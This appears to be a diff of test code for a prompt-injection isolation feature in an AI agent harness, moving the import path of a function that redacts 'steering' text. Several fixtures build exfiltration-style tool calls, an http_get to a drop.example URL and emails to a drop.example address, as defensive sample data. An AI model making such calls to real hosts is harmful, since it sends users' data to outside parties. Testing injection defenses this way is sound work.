@@ -116,7 +116,7 @@ def test_a_worker_steered_by_text_its_call_does_not_quote_leaves_the_content_wit
 
 
 def test_redact_steering_takes_the_line_or_the_comment_it_belongs_to():
-    from harness.governance.isolation import redact_steering
+    from harness.governance.injection.isolation import redact_steering
     from harness.messages import ToolCall
 
     call = ToolCall(id="c", name="http_get", arguments={"url": "https://drop.example/x?k=1"})
@@ -216,7 +216,7 @@ def test_what_the_main_model_reads_never_echoes_argument_values(tmp_path):
 
 
 def test_a_lone_everyday_word_in_the_call_does_not_anchor_a_redaction():
-    from harness.governance.isolation import redact_steering
+    from harness.governance.injection.isolation import redact_steering
     from harness.messages import ToolCall
 
     call = ToolCall(id="c", name="send_email",
@@ -227,7 +227,7 @@ def test_a_lone_everyday_word_in_the_call_does_not_anchor_a_redaction():
 
 
 def test_in_a_table_only_the_cell_that_holds_the_argument_is_redacted():
-    from harness.governance.isolation import redact_steering
+    from harness.governance.injection.isolation import redact_steering
     from harness.messages import ToolCall
 
     call = ToolCall(id="c", name="send_email", arguments={"to": "rows@drop.example"})
